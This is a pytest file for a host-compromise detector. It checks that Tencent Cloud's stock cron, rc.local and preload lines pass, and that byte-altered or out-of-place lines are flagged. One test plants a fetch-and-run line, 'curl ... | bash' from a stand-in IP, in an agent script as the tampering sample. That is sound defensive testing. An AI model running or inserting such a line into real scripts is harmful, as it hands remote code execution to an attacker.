"""A host with all that Tencent's official images put on it, judged whole: not a word against it.

But one for each line that is changed by a byte, and for each where nothing shows that the host is Tencent's.
"""

from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from kenshin import catalog
from kenshin.analysis.assess import assess
from kenshin.analysis.case import Case
from kenshin.evidence.gather import gather
from kenshin.model.assessment import Assessment, Host, Verdict
from kenshin.model.finding import Grade
from kenshin.provenance.packages import packages
from kenshin.provenance.vendors import vendors
from tests.fakes import FakeSource, host
from tests.provenance.test_lists import SAMPLES, Sample

SIGN = {"/etc/qcloudzone": "ap-guangzhou-3\n", "/etc/hostname": "VM-12-12-debian\n"}
SYSTEM = {
    f"/usr/bin/{name}": {"content": "\x7fELF", "mode": 0o100755, "package": f"base {number}"}
    for number, name in enumerate(("sh", "flock", "sleep", "touch"))
} | {"/usr/sbin/ntpdate": {"content": "\x7fELF", "mode": 0o100755, "package": "ntpdate 4.2"}}
# One of the places where a line may stand, and one of the directories where the agents may be.
PLACES = ("/var/spool/cron/crontabs/root", "/etc/cron.d/sgagenttask", "/etc/cron.d/yunjing", "/etc/rc.local")
LINES = [
    sample
    for sample in SAMPLES
    if sample.path in (*PLACES, "/etc/ld.so.preload")
    and "/var/lib/qcloud" not in sample.text
    and (sample.vendor == "tencent" or sample.text.startswith("touch"))
]
PROGRAMS = {
    program for sample in LINES for program in sample.programs if not program.startswith("/usr/sbin/")
}
SCRIPT = {"content": "#!/bin/bash\ncd $(dirname $0)\n./agent.sh start >/dev/null 2>&1\n", "mode": 0o100755}


def files(lines: Mapping[Sample, str], programs: bool = True) -> dict[str, Any]:
    """The host's files: the given text of each line in its place, below its file's first line."""
    found: dict[str, Any] = dict(SYSTEM)
    if programs:
        found |= {
            path: {"content": "\x7fELF", "mode": 0o100755} if path.endswith(".so") else SCRIPT
            for path in PROGRAMS
        }
    for sample, text in lines.items():
        known = found.setdefault(sample.path, {"content": "", "mode": 0o100644})
        if not known["content"] and sample.path == "/etc/rc.local":
            known |= {"content": "#!/bin/bash\n", "mode": 0o100755}
        known["content"] += f"{text}\n"
    return found


def judged(found: Mapping[str, Any]) -> Assessment:
    gathered = gather(FakeSource(host(found)).collect, catalog.artifacts(), catalog.authority_wants())
    authorities = (packages(gathered.evidence), vendors(gathered.evidence, catalog.known_vendors()))
    return assess(Case(gathered, authorities, catalog.indicators()), catalog.detections(), Host("test:"))


def changed() -> Iterator[tuple[Sample, str]]:
    """Each line with one byte replaced, at its beginning, its end and twice between."""
    for sample in LINES:
        length = len(sample.text)
        for position in sorted({0, length // 3, 2 * length // 3, length - 1}):
            new = "y" if sample.text[position] == "x" else "x"
            yield sample, f"{sample.text[:position]}{new}{sample.text[position + 1 :]}"


AS_SHIPPED = {sample: sample.text for sample in LINES}


def test_an_official_image_has_nothing_to_answer_for() -> None:
    assessment = judged(SIGN | files(AS_SHIPPED))
    assert [f"{f.detection} {f.origin} {f.summary}" for f in assessment.findings] == []
    assert assessment.verdict is Verdict.NO_EVIDENCE, assessment.coverage


@pytest.mark.parametrize(
    ("sample", "text"), list(changed()), ids=lambda value: value if isinstance(value, str) else value.path
)
def test_a_changed_byte_is_a_finding_with_its_line(sample: Sample, text: str) -> None:
    assessment = judged(SIGN | files({sample: text}))
    found = [f for f in assessment.findings if f.grade.rank >= Grade.WEAK.rank and f.text == text]
    assert {(f.origin.path, f.text) for f in found} == {(sample.path, text)}


def test_on_anybody_elses_host_each_line_is_a_finding() -> None:
    mine = {sample: sample.text for sample in LINES if sample.vendor == "tencent"}
    for sign in ({}, {"/sys/class/dmi/id/sys_vendor": "Amazon EC2\n"}):
        assessment = judged(sign | files(mine, programs=bool(sign)))
        assert {(s.path, s.text) for s in mine} <= {(f.origin.path, f.text) for f in assessment.findings}


def test_a_script_that_was_altered_is_found_below_an_official_line() -> None:
    altered = "#!/bin/bash\ncurl -fsSL http://203.0.113.130/rps | bash\n"
    path = "/usr/local/qcloud/rps/set_rps.sh"
    assessment = judged(SIGN | files(AS_SHIPPED) | {path: {"content": altered, "mode": 0o100755}})
    assert assessment.verdict is Verdict.LIKELY_COMPROMISED
    assert {(f.origin.path, f.origin.line) for f in assessment.findings} == {(path, 2)}
